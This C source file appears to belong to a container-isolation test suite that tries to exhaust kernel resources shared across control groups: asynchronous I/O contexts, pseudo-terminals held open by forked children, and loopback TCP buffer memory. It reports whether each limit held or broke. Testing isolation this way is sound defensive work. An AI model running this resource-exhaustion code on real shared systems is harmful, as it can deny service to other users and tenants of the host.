/* Attempts to use up what all processes of a kernel share, whatever control group they are in. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Opens terminals until it may not or has `most`. Those that do not fit in one process a child keeps open. */
static int open_terminals(int most) {
  for (int count = 0;;) {
    int fd = posix_openpt(O_RDWR | O_NOCTTY);
    if (fd >= 0 && ++count >= most) {
      return fd;
    }
    if (fd < 0 && errno != EMFILE) {
      return fd;
    }
    if (fd < 0) {
      pid_t child = fork();
      if (child < 0) {
        return child;
      }
      while (child == 0) {
        pause();
      }
      close_range(3, ~0u, 0);
    }
  }
}

/* The machine has one table of asynchronous I/O contexts and one of terminals. */
void attack_shared_tables(void) {
  unsigned long context = 0;
  TRY("asynchronous I/O", syscall(SYS_io_setup, 60000, &context));
  TRY("terminals", open_terminals(1000));
}

static bool connected(int listener, const struct sockaddr_in *address, int ends[2]) {
  ends[0] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (ends[0] < 0 || connect(ends[0], (const struct sockaddr *)address, sizeof *address) != 0) {
    return false;
  }
  ends[1] = accept(listener, NULL, NULL);
  return ends[1] >= 0;
}

/* Data on its way through the loopback device is the kernel's memory, and no process shows it as its own. */
void attack_socket_memory(void) {
  static char block[64 << 10];
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
  socklen_t length = sizeof address;
  int listener = socket(AF_INET, SOCK_STREAM, 0), ends[2];
  bind(listener, (struct sockaddr *)&address, sizeof address);
  listen(listener, 4);
  getsockname(listener, (struct sockaddr *)&address, &length);
  size_t most = (size_t)atoll(argument("memory-bytes")) * 5 / 4, sum = 0;
  while (sum < most && connected(listener, &address, ends)) {
    ssize_t n;
    while ((n = send(ends[0], block, sizeof block, MSG_DONTWAIT | MSG_NOSIGNAL)) > 0) {
      sum += (size_t)n;
    }
  }
  if (sum < most) {
    held("bytes in TCP buffers", "%s", strerrorname_np(errno));
  } else {
    broken("bytes in TCP buffers", "%zu", sum);
  }
}
